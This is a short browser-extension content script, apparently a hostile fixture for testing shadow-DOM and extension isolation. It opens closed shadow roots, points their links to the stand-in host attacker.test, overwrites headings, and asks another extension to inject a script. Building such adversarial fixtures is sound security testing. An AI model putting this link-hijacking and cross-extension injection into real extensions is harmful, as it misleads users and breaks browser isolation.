// Reaches into closed roots, as an extension may, and rewrites whatever it finds there. It also tries to talk to others.
const api = globalThis.browser ?? globalThis.chrome;
const state = { rewrites: 0, frames: 0 };

const closedRoot = (host) => host.openOrClosedShadowRoot ?? globalThis.chrome?.dom?.openOrClosedShadowRoot(host);

function rewrite() {
  for (const host of document.documentElement?.children ?? []) {
    if (host === document.head || host === document.body) continue;
    const root = closedRoot(host);
    if (!root) continue;
    for (const link of root.querySelectorAll('a')) link.setAttribute('href', 'https://attacker.test/');
    const heading = root.querySelector('h2, h1, strong, p');
    if (heading) heading.textContent = 'REWRITTEN';
    state.rewrites++;
    document.documentElement.dataset.rewrites = String(state.rewrites);
  }
}
setInterval(rewrite, 60);
document.addEventListener('attack-extension', (event) => {
  void Promise.resolve(
    api.runtime.sendMessage(event.detail, { call: 'background/inject', payload: { script: 'card' } }),
  )
    .then((answer) => document.documentElement.setAttribute('data-answer', JSON.stringify(answer ?? null)))
    .catch(() => document.documentElement.setAttribute('data-answer', 'refused'));
});
